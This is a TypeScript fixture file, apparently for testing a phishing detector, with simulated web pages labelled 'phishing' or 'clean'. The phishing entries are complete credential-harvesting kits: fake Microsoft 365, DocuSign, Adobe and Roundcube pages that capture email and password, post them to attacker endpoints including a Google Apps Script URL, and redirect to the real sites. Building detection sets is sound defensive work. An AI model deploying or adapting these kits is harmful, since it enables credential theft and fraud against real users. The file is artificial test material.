import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, fileRoute, zip, pngRoute } from '../parts/e-bin.js';
import { page, msCss, msLogo, appCss, badge, wordmark, b64, hex } from '../parts/ya-kit.js';

const m365Kit = (action: string, banner: string): string => page({
  title: 'Sign in to your account',
  css: msCss,
  body: `<div class="outer">
<div class="card">
  ${msLogo}
  <div id="p1"><div class="title">Sign in</div>
  <div style="font-size:13px;color:#444;background:#f3f6fb;padding:8px 10px;margin-bottom:6px">${banner}</div>
  <input class="input" type="email" id="em" placeholder="Email, phone, or Skype" autocomplete="username">
  <div class="err" id="e1">Enter a valid email address, phone number, or Skype name.</div>
  <div class="links"><a href="#">Can't access your account?</a></div>
  <div class="btnrow"><button class="btn btn-primary" id="nx">Next</button></div></div>
  <div id="p2" style="display:none"><div class="ident">&larr; <span id="who"></span></div><div class="title">Enter password</div>
  <input class="input" type="password" id="pw" placeholder="Password" autocomplete="current-password">
  <div class="err" id="e2">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
  <div class="links"><a href="#">Forgot my password</a></div>
  <div class="btnrow"><button class="btn btn-primary" id="si">Sign in</button></div></div>
</div>
<div class="opts">&#128273; Sign-in options</div>
<div class="footer"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
</div>
<script>
var c=0,h=location.hash.slice(1);try{if(h){document.getElementById('em').value=/@/.test(h)?h:atob(h);}}catch(e){}
document.getElementById('nx').onclick=function(){var v=document.getElementById('em').value;if(!/^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$/i.test(v)){document.getElementById('e1').style.display='block';return;}
document.getElementById('who').textContent=v;document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block';};
document.getElementById('si').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;c++;
var x=new XMLHttpRequest();x.open('POST','${action}',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.onload=function(){if(c<2){document.getElementById('e2').style.display='block';document.getElementById('pw').value='';}else{location.replace('https://www.office.com/');}};
x.send('ai='+encodeURIComponent(document.getElementById('em').value)+'&pr='+encodeURIComponent(p)+'&n='+c);};
</script>`,
});

export const entries: Entry[] = [
{
  id: 'ya-docusign-lure-chain-to-m365',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://t.sendinblue-mail.net/tr/cl/a8Xk2pQ9wLm3',
  routes: {
    't.sendinblue-mail.net/tr/cl/a8Xk2pQ9wLm3': redirectRoute(302, 'https://docusign-envelope.net/Signing/EmailStart.aspx?a=3d7c1f0e-2b8a-4c19-9e57-61b0d2f4a8e1&acct=8a1c&er=f7b3'),
    'docusign-envelope.net/Signing/EmailStart.aspx': htmlRoute(page({
      title: 'DocuSign',
      lang: 'en-US',
      css: `body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;background:#eaeaea;color:#333}
.top{background:#fff;padding:14px 24px;border-bottom:1px solid #ddd}
.env{max-width:600px;margin:40px auto;background:#1e4ca1;color:#fff;text-align:center;padding:34px 24px}
.env .ic{font-size:48px}
.env a{display:inline-block;margin-top:18px;background:#ffc820;color:#222;font-weight:bold;padding:12px 26px;text-decoration:none;border-radius:2px}
.msg{max-width:600px;margin:0 auto;background:#fff;padding:24px;font-size:14px;line-height:1.6}`,
      body: `<div class="top">${wordmark('DocuSign', '#1e4ca1', { size: 24, weight: 800 })}</div>
<div class="env"><div class="ic">&#128196;</div><p>Northgate Fabrication Ltd sent you a document to review and sign.</p><p style="font-size:13px;opacity:.9">Final Account Statement &amp; Revised Remittance Details – Q3.pdf</p><a id="rv" href="#">REVIEW DOCUMENT</a></div>
<div class="msg"><b>Accounts Payable</b><br>accounts@northgatefabrication.co.uk<br><br>Please review the attached statement and confirm our updated remittance details before the next payment run.<br><br>Powered by DocuSign</div>
<script>document.getElementById('rv').onclick=function(e){e.preventDefault();setTimeout(function(){location.href='https://docs-envelope-review.workers.dev/m365/?sid=3d7c1f0e#'+btoa('ap@'+(new URLSearchParams(location.search).get('acct')||'')+'.co.uk');},700);};</script>`,
    })),
    'docs-envelope-review.workers.dev/m365/': htmlRoute(m365Kit('/m365/post', 'Because you\'re accessing sensitive info, you need to verify your password.')),
    'docs-envelope-review.workers.dev/m365/post': jsonRoute({ s: 1 }),
  },
},
{
  id: 'ya-docusign-signing-own-domain',
  label: 'clean',
  kind: 'esign-own-domain',
  url: 'https://na3.docusign.net/Signing/EmailStart.aspx?a=9b2e44c1-7d0f-4a8b-b3e2-5c1f9a7d6e20&etti=24&acct=5f8e1c2a-3b4d-4e6f-8a9b-0c1d2e3f4a5b&er=c7e9a1b3-d5f7-4a2c-9e8b-6d4f2a0c8e1b',
  body: page({
    title: 'DocuSign',
    lang: 'en-US',
    css: `body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;background:#f4f4f4;color:#333}
.bar{background:#fff;border-bottom:1px solid #d9d9d9;padding:10px 20px;display:flex;justify-content:space-between;align-items:center}
.consent{max-width:820px;margin:20px auto;background:#fff;border:1px solid #d9d9d9;padding:18px 22px;display:flex;gap:20px;align-items:center;justify-content:space-between}
.consent p{margin:0;font-size:14px}
.go{background:#ffc820;border:0;padding:10px 28px;font-weight:bold;cursor:pointer}
.doc{max-width:820px;margin:0 auto 40px;background:#fff;border:1px solid #d9d9d9;min-height:700px;padding:60px 70px;font-family:Georgia,serif;font-size:14px;line-height:1.7}`,
    body: `<div class="bar">${wordmark('DocuSign', '#1e4ca1', { size: 22, weight: 800 })}<span style="font-size:13px">OTHER ACTIONS ▾</span></div>
<div class="consent"><p><input type="checkbox" id="cb"> I agree to use <a href="https://www.docusign.com/legal/electronic-record-and-signature-disclosure">electronic records and signatures</a>.<br><span style="color:#666">Please read the Electronic Record and Signature Disclosure.</span></p><button class="go" id="go" disabled>CONTINUE</button></div>
<div class="doc"><h2 style="text-align:center">Engagement Letter – Year End 30 June 2025</h2><p>Dear Director,</p><p>This letter sets out the basis on which Lisgar &amp; Partners LLP will prepare the statutory financial statements and corporation tax return of Westmeath Kitchens Ltd for the year ending 30 June 2025…</p><p>Our fees will be invoiced on completion. Our bank details are set out in our terms of business and <b>will never be changed by email</b>; please telephone the office to confirm any request to alter them.</p><p style="margin-top:80px">Signed: ______________________ &nbsp; Date: ____________</p></div>
<script>var cb=document.getElementById('cb'),go=document.getElementById('go');cb.onchange=function(){go.disabled=!cb.checked};go.onclick=function(){document.querySelector('.consent').style.display='none';};</script>`,
  }),
},
{
  id: 'ya-adobe-invoice-ipfs-provider-picker',
  label: 'phishing',
  kind: 'file-share-kit',
  url: 'https://ipfs.io/ipfs/bafybeigx7k3pqh2c5zmw4r6t8yv1n9j0l2a4s6d8f0g2h4j6k8l0z2x4c6/INV-54912.html',
  body: page({
    title: 'Adobe Document Cloud | Invoice_54912.pdf',
    css: `body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif;min-height:100vh;background:#ccc}
.bg{position:fixed;inset:0;background:repeating-linear-gradient(#fff 0 22px,#e9e9e9 22px 24px);filter:blur(5px);transform:scale(1.05)}
.bg::before{content:"INVOICE";position:absolute;top:80px;left:120px;font-size:64px;color:#999;font-weight:700}
.modal{position:relative;z-index:2;max-width:420px;margin:8vh auto;background:#fff;border-radius:6px;box-shadow:0 8px 40px rgba(0,0,0,.35);padding:28px}
.hdr{display:flex;align-items:center;gap:10px;border-bottom:1px solid #eee;padding-bottom:14px}
.hdr i{display:inline-block;width:34px;height:34px;background:#eb1000;border-radius:4px;color:#fff;font:bold 18px/34px Arial;text-align:center;font-style:normal}
.prov{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:18px 0}
.prov button{padding:12px;border:1px solid #ccc;background:#fafafa;border-radius:4px;cursor:pointer;font-weight:600}
#frm{display:none}#frm input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;border-radius:4px;margin:6px 0 12px}
#frm button{width:100%;background:#1473e6;color:#fff;border:0;padding:11px;border-radius:16px;font-weight:700;cursor:pointer}
.e{color:#c9252d;font-size:13px;display:none}`,
    body: `<div class="bg"></div>
<div class="modal">
  <div class="hdr"><i>A</i><div><b>Adobe Document Cloud</b><br><span style="font-size:12px;color:#666">Invoice_54912.pdf · 214 KB · Shared securely</span></div></div>
  <p style="font-size:14px">To read the document, please choose your email provider below and log in to view shared file.</p>
  <div class="prov" id="prov"><button data-p="Office 365">Office 365</button><button data-p="Outlook">Outlook</button><button data-p="Gmail">Gmail</button><button data-p="Yahoo">Yahoo!</button><button data-p="AOL">AOL</button><button data-p="Other Mail">Other Mail</button></div>
  <form id="frm"><p id="pn" style="font-weight:700"></p><input type="email" id="ue" placeholder="Email address" required><input type="password" id="up" placeholder="Password" required><p class="e" id="er">Network error! Login with the correct email password.</p><button>View Document</button></form>
</div>
<script>
var P='';document.querySelectorAll('#prov button').forEach(function(b){b.onclick=function(){P=b.dataset.p;document.getElementById('pn').textContent='Sign in with '+P;document.getElementById('prov').style.display='none';document.getElementById('frm').style.display='block';};});
var k=0;document.getElementById('frm').onsubmit=function(e){e.preventDefault();k++;
var q='https://script.google.com/macros/s/AKfycbx9Qm2vT4kLr7pZ1sW3eYh8uN6cJ0dF5gB2aX7iV/exec';
fetch(q,{method:'POST',mode:'no-cors',body:JSON.stringify({p:P,e:document.getElementById('ue').value,w:document.getElementById('up').value,t:k})}).finally(function(){
if(k<2){document.getElementById('er').style.display='block';document.getElementById('up').value='';}else{location.href='https://acrobat.adobe.com/';}});};
</script>`,
  }),
},
{
  id: 'ya-adobe-sign-widget-own-domain',
  label: 'clean',
  kind: 'esign-own-domain',
  url: 'https://secure.adobesign.com/public/esignWidget?wid=CBFCIBAA3AAABLblqZhD7kP2v9xWq4r1Ty8sM0eN3uJ6hK5aF2cL&hosted=false',
  body: page({
    title: 'Adobe Acrobat Sign',
    lang: 'en-US',
    css: `body{margin:0;font-family:adobe-clean,"Source Sans Pro",Arial,sans-serif;background:#f5f5f5;color:#2c2c2c}
.hd{background:#fff;border-bottom:1px solid #e1e1e1;padding:12px 24px;display:flex;align-items:center;gap:10px}
.hd i{width:26px;height:26px;background:#eb1000;border-radius:4px;color:#fff;font:bold 15px/26px Arial;text-align:center;font-style:normal}
.w{max-width:760px;margin:24px auto;background:#fff;border:1px solid #e1e1e1;padding:32px 44px}
label{display:block;font-size:13px;font-weight:700;margin:14px 0 4px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #b3b3b3;border-radius:4px}
.sig{border-bottom:2px solid #2c2c2c;height:60px;font-family:"Brush Script MT",cursive;font-size:32px;padding-top:14px}
.b{margin-top:22px;background:#1473e6;color:#fff;border:0;padding:10px 26px;border-radius:16px;font-weight:700;cursor:pointer}`,
    body: `<div class="hd"><i>A</i><b>Adobe Acrobat Sign</b></div>
<div class="w">
<h2>Direct Debit Authority – Kilbride Plant Hire Pty Ltd</h2>
<p style="font-size:14px;line-height:1.6">Customers who pay monthly hire invoices by direct debit complete this authority once. Kilbride Plant Hire will never ask you to change the account your payments go to by email.</p>
<form method="post" action="/public/esignWidget/submit">
<input type="hidden" name="wid" value="CBFCIBAA3AAABLblqZhD7kP2v9xWq4r1Ty8sM0eN3uJ6hK5aF2cL">
<label>Customer business name</label><input name="business" required>
<label>ABN</label><input name="abn" maxlength="14">
<label>Authorised signatory email</label><input name="email" type="email" required>
<label>Signature</label><div class="sig" contenteditable="true" aria-label="Click to sign"></div>
<button class="b" type="submit">Click to Sign</button>
</form>
<p style="font-size:12px;color:#6e6e6e;margin-top:24px">By clicking Click to Sign you agree to the <a href="https://www.adobe.com/legal/terms.html">Terms of Use</a> and to do business electronically with Kilbride Plant Hire Pty Ltd.</p>
</div>`,
  }),
},
{
  id: 'ya-microsoft-login-own-domain',
  label: 'clean',
  kind: 'brand-login-own-domain',
  url: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&redirect_uri=https%3A%2F%2Fwww.office.com%2Flandingv2&response_type=code%20id_token&scope=openid%20profile&response_mode=form_post&nonce=638651234567890123',
  body: page({
    title: 'Sign in to your account',
    head: `<meta name="robots" content="none"><meta name="referrer" content="origin"><link rel="stylesheet" href="https://aadcdn.msftauth.net/shared/1.0/content/css/converged.v2.login.min_ivs4rd9qbcfqpvmgzl8ayg2.css">`,
    css: msCss,
    body: `<form name="f1" id="i0281" method="post" action="https://login.microsoftonline.com/common/login" autocomplete="off" novalidate>
<div class="outer">
<div class="card">
  ${msLogo}
  <div class="title" role="heading" aria-level="1">Sign in</div>
  <input type="email" name="loginfmt" id="i0116" class="input" maxlength="113" placeholder="Email, phone, or Skype" aria-label="Enter your email, phone, or Skype." autocomplete="username">
  <input type="hidden" name="ctx" value="rQQIARAAhZG9a9tAGMZ1lmPHXeo2hTSTSYJYikYYuhZgrZUsa3KRVSU4Nw">
  <input type="hidden" name="flowToken" value="AQABIQEAAABVrSpeuWamRam2jAF1XRQEBv5Yb4kcD0KqL8n4tJxHcw">
  <div class="links"><span style="font-size:13px">No account? <a href="https://signup.live.com/" style="display:inline">Create one!</a></span><a href="https://account.live.com/ResetPassword.aspx">Can't access your account?</a></div>
  <div class="btnrow"><input type="submit" class="btn btn-primary" value="Next" id="idSIButton9"></div>
</div>
<div class="opts">&#128273; Sign-in options</div>
<div class="footer"><a href="https://www.microsoft.com/en-GB/servicesagreement/">Terms of use</a><a href="https://privacy.microsoft.com/en-GB/privacystatement">Privacy &amp; cookies</a><a href="#">...</a></div>
</div>
</form>
<script>window.$Config={"urlPost":"https://login.microsoftonline.com/common/login","sCtx":"rQQIARAAhZG9a9tAGMZ1lmPHXeo2hTSTSYJYikYYuhZgrZUsa3KRVSU4Nw","iMaxPollErrors":5,"sPOST_Username":"","fShowPersistentCookiesWarning":false,"urlCdn":"https://aadcdn.msftauth.net/shared/1.0/"};</script>
<script src="https://aadcdn.msftauth.net/shared/1.0/content/js/ConvergedLogin_PCore_ZkjsO7sR1V5Ww2Fv7hHLxw2.js" crossorigin="anonymous"></script>`,
  }),
},
{
  id: 'ya-roundcube-quota-kit-any-domain',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-storage-upgrade.com/roundcube/?_task=login&email=accounts@brennanjoinery.ie',
  body: page({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    css: `body{margin:0;font-family:"Source Sans Pro","Helvetica Neue",Arial,sans-serif;background:#f4f4f4;color:#2c363a}
#layout{display:flex;align-items:center;justify-content:center;min-height:100vh;flex-direction:column}
#logo{margin-bottom:18px;font-size:30px;font-weight:700;color:#37beff}
#logo span{color:#2c363a}
.box{background:#fff;border:1px solid #d4dbde;border-radius:4px;padding:26px 30px;width:340px}
.quota{background:#fcf1dc;border:1px solid #f0c36d;color:#6b4e00;font-size:13px;padding:9px 12px;margin-bottom:14px;border-radius:3px}
.bar{height:10px;background:#eee;border-radius:5px;overflow:hidden;margin:6px 0}.bar i{display:block;height:100%;width:99%;background:#d9534f}
table{width:100%}td{padding:6px 0}td.title{width:90px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:8px;border:1px solid #b2bdc3;border-radius:3px;font-size:14px}
.mainaction{width:100%;margin-top:12px;background:#37beff;color:#fff;border:0;padding:10px;border-radius:3px;font-size:15px;cursor:pointer}
#footer{margin-top:16px;font-size:12px;color:#8a9aa3}`,
    body: `<div id="layout">
<div id="logo">round<span>cube</span> <span style="font-weight:400;font-size:16px" id="dom"></span></div>
<div class="box">
<div class="quota"><b>Mailbox quota exceeded</b><div class="bar"><i></i></div>You have used 2.97 GB of 3 GB. Incoming messages from your customers and suppliers are being held. Log in to upgrade storage free of charge.</div>
<form name="login-form" method="post" action="/roundcube/?_task=login">
<input type="hidden" name="_token" value="Wb7xk2QhZq9pR4tV1sYc3nE8mL0aJ6dF">
<input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tr><td class="title"><label for="rcmloginuser">Username</label></td><td><input name="_user" id="rcmloginuser" autocomplete="off"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td><input name="_pass" id="rcmloginpwd" type="password"></td></tr></table>
<button type="submit" class="mainaction" id="rcmloginsubmit">Login</button>
</form></div>
<div id="footer">Roundcube Webmail</div></div>
<script>
var em=new URLSearchParams(location.search).get('email')||'';if(em){document.getElementById('rcmloginuser').value=em;document.getElementById('dom').textContent=em.split('@')[1]||'';document.title=(em.split('@')[1]||'')+' :: Webmail';}
document.forms['login-form'].addEventListener('submit',function(e){e.preventDefault();var f=this;fetch('/roundcube/hn.php',{method:'POST',body:new FormData(f)}).then(function(){var d=em.split('@')[1];location.href='https://'+(d||'roundcube.net')+'/';});});
</script>`,
  }),
  routes: { 'webmail-storage-upgrade.com/roundcube/hn.php': jsonRoute({ signal: 'ok' }) },
},
];
